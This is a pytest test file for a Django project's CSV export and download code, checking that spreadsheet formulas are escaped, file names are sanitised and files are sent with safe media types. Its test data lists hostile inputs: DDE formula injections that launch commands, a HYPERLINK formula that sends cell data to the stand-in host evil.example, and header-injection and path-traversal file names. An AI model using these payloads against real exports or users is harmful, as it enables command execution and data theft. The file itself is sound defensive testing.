"""What leaves as a file: spreadsheets run nothing in it, browsers take it for nothing else."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.http import HttpResponse
from django.utils.translation import gettext_lazy

from bluethread.core.documents.store import media_type
from bluethread.web.exports import csv_response, to_keep

ATTACKS = [
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "-nan(1)",
    "-1_000",
    "-inf",
    '=HYPERLINK("https://evil.example?"&A1,"here")',
    "%0A=1",
    "|calc",
]


def exported(cell):
    response = csv_response("a.csv", [cell], [[cell]])
    return list(csv.reader(io.StringIO(response.getvalue().decode().removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_a_spreadsheet_would_run_is_shown(text):
    assert exported(text) == [[f"'{text}"], [f"'{text}"]]


@pytest.mark.parametrize("text", ["-5", "+5", "-3.5", "-1e3", "Ghana", "S/RES/2382 (2017)", "a=b", "'quoted", ""])
def test_other_text_stays(text):
    assert exported(text)[1] == [text]


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-5, "-5"), (-0.5, "-0.5"), (Decimal("-1.20"), "-1.20"), (date(2026, 3, 1), "2026-03-01"), (True, "True")],
)
def test_numbers_and_dates_stay(value, cell):
    assert exported(value)[1] == [cell]


def test_text_that_is_made_late_is_no_way_round():
    assert exported(gettext_lazy("=1+1"))[1] == ["'=1+1"]


@pytest.mark.parametrize(
    "name", ['a"; filename="b.exe', "a\r\nSet-Cookie: x=1.csv", "../../a.csv", "..\\a.csv", "=cmd.csv", "\u202efdp.exe"]
)
def test_a_file_name_stays_a_file_name(name):
    response = to_keep(HttpResponse(b""), name)
    header = response["Content-Disposition"]
    assert header.startswith("attachment; filename")
    assert not set(header) & set("\r\n\u202e")
    assert "/" not in header
    assert 'filename="b.exe' not in header.replace('\\"', "")
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


@pytest.mark.parametrize(
    ("data", "name", "sent_as"),
    [
        (b"alert(1)", "resolution.js", "text/plain"),
        (b"1. Decides", "resolution.html", "text/plain"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>", "resolution.svg", "text/plain"),
        (b"%PDF-1.7", "resolution.html", "application/pdf"),
        (b"PK\x03\x04", "resolution.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"PK\x03\x04", "resolution.js", "application/zip"),
        (b"\x89PNG\x00", "resolution.png", "application/octet-stream"),
        (b"a,b\n", "returns.csv", "text/csv"),
    ],
)
def test_a_file_is_sent_out_as_what_it_holds(data, name, sent_as):
    assert media_type(data, name) == sent_as
